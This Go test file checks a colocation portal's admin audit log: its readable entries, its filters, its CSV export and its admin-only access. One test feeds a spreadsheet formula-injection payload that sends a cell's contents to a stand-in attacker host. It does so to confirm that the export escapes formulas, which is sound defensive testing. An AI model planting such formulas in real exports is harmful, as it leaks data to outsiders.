package handlers_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/colo-portal/portal/models"
)

// The audit log reads as sentences, filters by user, organization, action
// and dates, and exports the filtered set as CSV, which is itself audited;
// only admins reach either.
func TestAuditLogSentencesFiltersAndExport(t *testing.T) {
	eachDB(t, func(t *testing.T, e *env) {
		ctx := context.Background()
		fx := e.fx
		_, err := e.store.CreateContact(ctx, models.UserActor(fx.CustA, "192.0.2.7"), fx.OrgA.ID, models.ContactInput{Name: "Zhao Min",
			Email: "zhao.min@alpha.test", Channels: []models.Channel{models.ChannelEmail}, MayAuthorize: true, Passphrase: passphrase})
		if err != nil {
			t.Fatal(err)
		}
		e.clock.Advance(48 * time.Hour)
		if _, err := e.store.CreateContact(ctx, models.UserActor(fx.CustB, "192.0.2.8"), fx.OrgB.ID, models.ContactInput{Name: "Qian Bo",
			Email: "qian.bo@bravo.test", Channels: []models.Channel{models.ChannelEmail}}); err != nil {
			t.Fatal(err)
		}
		admin := e.as(t, fx.Admin)
		admin.header.Set("Accept-Language", "en")

		r := admin.get("/admin/audit")
		wantStatus(t, r, http.StatusOK)
		wantBody(t, r, "Contact Zhao Min added, may authorize", "Contact Qian Bo added<", "User b@bravo.test created as Customer")
		wantNoBody(t, r, `{&#34;`, `"may_authorize"`)

		day1 := e.clock.Now().Add(-48 * time.Hour).Format(time.DateOnly)
		for _, c := range []struct {
			name, query string
			want, not   []string
		}{
			{"by user", "?user=" + ids(fx.CustA.ID), []string{"Zhao Min"}, []string{"Qian Bo", "created as"}},
			{"by organization", "?org=" + ids(fx.OrgB.ID), []string{"Qian Bo"}, []string{"Zhao Min"}},
			{"by action", "?action=" + models.AuditOrgCreated, []string{"Organization Bravo Games (bravo) created"}, []string{"Zhao Min", "Qian Bo"}},
			{"by date range", "?from=" + day1 + "&to=" + day1, []string{"Zhao Min"}, []string{"Qian Bo"}},
		} {
			r := admin.get("/admin/audit" + c.query)
			wantStatus(t, r, http.StatusOK)
			wantBody(t, r, c.want...)
			wantNoBody(t, r, c.not...)
		}
		r = admin.get("/admin/audit?from=2026-11-09&to=2026-11-01")
		wantStatus(t, r, http.StatusUnprocessableEntity)
		wantBody(t, r, "The start is after the end.")

		// The CSV holds the filtered set with sentences and raw detail.
		r = admin.get("/admin/audit.csv?org=" + ids(fx.OrgA.ID))
		wantStatus(t, r, http.StatusOK)
		if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
			t.Fatalf("CSV content type %q", ct)
		}
		rows, err := csv.NewReader(strings.NewReader(r.Body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) < 2 || rows[0][5] != "what" {
			t.Fatalf("CSV rows %q", rows)
		}
		var sawContact bool
		for _, row := range rows[1:] {
			if row[8] != ids(fx.OrgA.ID) {
				t.Errorf("CSV filtered to %s has a row of org %q: %q", fx.OrgA.Name, row[8], row)
			}
			if row[4] == models.AuditContactCreated {
				sawContact = true
				if row[5] != "Contact Zhao Min added, may authorize" || !strings.Contains(row[10], `"may_authorize":true`) {
					t.Errorf("contact row: sentence %q, detail %q", row[5], row[10])
				}
			}
		}
		if !sawContact {
			t.Errorf("CSV of %s lacks the contact it added: %q", fx.OrgA.Name, rows)
		}
		// The export is in the log.
		r = admin.get("/admin/audit?action=" + models.AuditExported)
		wantBody(t, r, "Audit log exported as CSV: "+itoaInt(len(rows)-1)+" entries", fx.Admin.Email)

		// Nobody else reaches the log or its export.
		for _, u := range []*models.User{fx.CustA, fx.Engineer, fx.Service, fx.Reception} {
			c := e.as(t, u)
			for _, p := range []string{"/admin/audit", "/admin/audit.csv"} {
				if r := c.get(p); r.StatusCode != http.StatusForbidden && r.StatusCode != http.StatusNotFound {
					t.Errorf("%s GET %s = %d, want 403 or 404", u.Email, p, r.StatusCode)
				}
			}
		}
	})
}

func itoaInt(n int) string { return ids(int64(n)) }

// A cell a spreadsheet would read as a formula (=, +, -, @, tab, CR at its
// start) is exported with a leading apostrophe: whatever somebody typed as
// the email of a failed sign-in reaches the export's actor column.
func TestAuditExportNeutralizesFormulas(t *testing.T) {
	eachDB(t, func(t *testing.T, e *env) {
		const typed = `=hyperlink("https://evil.example/?"&b5,"x")`
		if _, err := e.store.Authenticate(t.Context(), typed, "not the password at all", "192.0.2.9", models.DefaultSignInLimits); err == nil {
			t.Fatal("a sign-in with a formula as its email succeeded")
		}
		admin := e.as(t, e.fx.Admin)
		r := admin.get("/admin/audit.csv")
		wantStatus(t, r, http.StatusOK)
		rows, err := csv.NewReader(strings.NewReader(r.Body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var saw bool
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("row %q: cell %d %q starts like a formula", row[0], i, cell)
				}
			}
			if row[3] == "'"+strings.ToLower(typed) {
				saw = true
			}
		}
		if !saw {
			t.Errorf("no row with the typed email behind an apostrophe in %q", rows)
		}
	})
}
